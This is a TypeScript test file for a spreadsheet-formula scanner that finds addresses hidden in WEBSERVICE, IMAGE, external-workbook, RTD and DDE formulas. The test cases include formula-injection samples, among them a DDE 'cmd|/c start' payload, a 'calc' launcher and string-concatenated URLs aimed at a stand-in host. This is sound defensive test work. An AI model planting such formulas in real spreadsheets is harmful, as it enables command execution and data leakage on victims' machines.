// Addresses in formulas: by hand, in each dialect and disguise, and whatever else is written never hangs or throws.

import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { scanFormula } from "../../../../src/core/mail/files/sheet-formulas.ts";

/** "construct address" of each. */
function read(value: string): string[] {
	const lines: string[] = [];
	scanFormula({ value, start: (index) => index, end: (index) => index }, (construct, text) => lines.push(`${construct} ${text.value}`));
	return lines;
}

const CASES: readonly (readonly [says: string, formula: string, lines: readonly string[]])[] = [
	["a function that fetches", '=WEBSERVICE("http://h.example/a")', ["formula fetch http://h.example/a"]],
	["case, blanks and Excel's prefixes do not count", '= _xlfn.WebService ( "http://h.example/a" )', ["formula fetch http://h.example/a"]],
	["quotes in a string are doubled", '=WEBSERVICE("http://h.example/?""x")', ['formula fetch http://h.example/?"x']],
	["what is joined is one address", '=IMAGE("ht"&"tp://h."&CHAR(101)&"xample/"&A1)', ["formula image http://h.example/"]],
	["CONCATENATE joins too", '=IMAGE(CONCATENATE("http://","h.example","/"))', ["formula image http://h.example/"]],
	["a second argument is no address", '=IMPORTXML("http://h.example/";"//a/@href")', ["formula fetch http://h.example/"]],
	[
		"nor is one behind an inner function",
		'=IMAGE(IF(A1;"http://a.example";"http://b.example");"http://c")',
		["formula image http://a.example", "formula image http://b.example"],
	],
	["the name of a link is none", '=HYPERLINK("http://h.example/","http://shown.example/")', ["formula hyperlink http://h.example/"]],
	["an inner function that fetches counts by itself", '=HYPERLINK(WEBSERVICE("http://h.example/"))', ["formula fetch http://h.example/"]],
	["a string in no such function is text", '=IF(A1="http://h.example/",1,2)', []],
	["the last argument of an unfinished call counts", '=WEBSERVICE("http://h.example/', ["formula fetch http://h.example/"]],
	["a workbook of Excel", "='http://h.example/d/[b.xlsx]It''s'!A1", ["formula workbook http://h.example/d/b.xlsx"]],
	["a share", "='\\\\h.example\\s\\[b.xlsx]S'!A1", ["formula workbook \\\\h.example\\s\\b.xlsx"]],
	["a document of OpenFormula", "of:=['http://h.example/b[1].ods'#$S.A1]", ["formula workbook http://h.example/b[1].ods"]],
	["a sheet is no workbook", "='A sheet'!A1", []],
	["an apostrophe that begins no name hides nothing", '=T[x\']+IMAGE("http://h.example/")', ["formula image http://h.example/"]],
	["a program and what it is given", "=cmd|'/c start http://h.example/'!A0", ["formula dde /c start http://h.example/"]],
	["a program of this machine", "=cmd|'/c calc'!A0", []],
	["the server of a real-time data source", '=RTD("p.q","h.example","x")', ["formula call h.example"]],
	["a structured reference with commas", '=SUM(T[[#All],[a]])+IMAGE("http://h.example/")', ["formula image http://h.example/"]],
];

for (const [says, formula, lines] of CASES) test(says, () => assert.deepEqual(read(formula), lines));

test("an address knows where it stands, also where it is joined", () => {
	const formula = '=IMAGE("ht"&"tp://h.example/")';
	scanFormula({ value: formula, start: (index) => index, end: (index) => index }, (_, text) => {
		assert.equal(formula.slice(text.start(0), text.end(text.value.length)), 'ht"&"tp://h.example/');
		assert.equal(formula.slice(text.start(2), text.end(4)), "tp");
	});
});

const PIECES = [
	"=",
	'"',
	"'",
	"(",
	")",
	"[",
	"]",
	"{",
	"|",
	"!",
	"#",
	"&",
	",",
	";",
	"IMAGE(",
	"CHAR(",
	"9999999",
	"http://h",
	"a",
	" ",
	"\\\\",
];

test("whatever is written, it is read to its end", () => {
	fc.assert(
		fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }), (pieces) => void read(pieces.join(""))),
		{ numRuns: 500 },
	);
});

test("reading is linear", () => {
	for (const hostile of [...PIECES, "''", "'a'", '"&', 'IMAGE("a', "CHAR(65)&", "IMAGE('", "['", "a'!"]) {
		const formula = hostile.repeat(Math.ceil(400_000 / hostile.length));
		const begun = performance.now();
		read(formula);
		assert.ok(performance.now() - begun < 5000, hostile);
	}
});
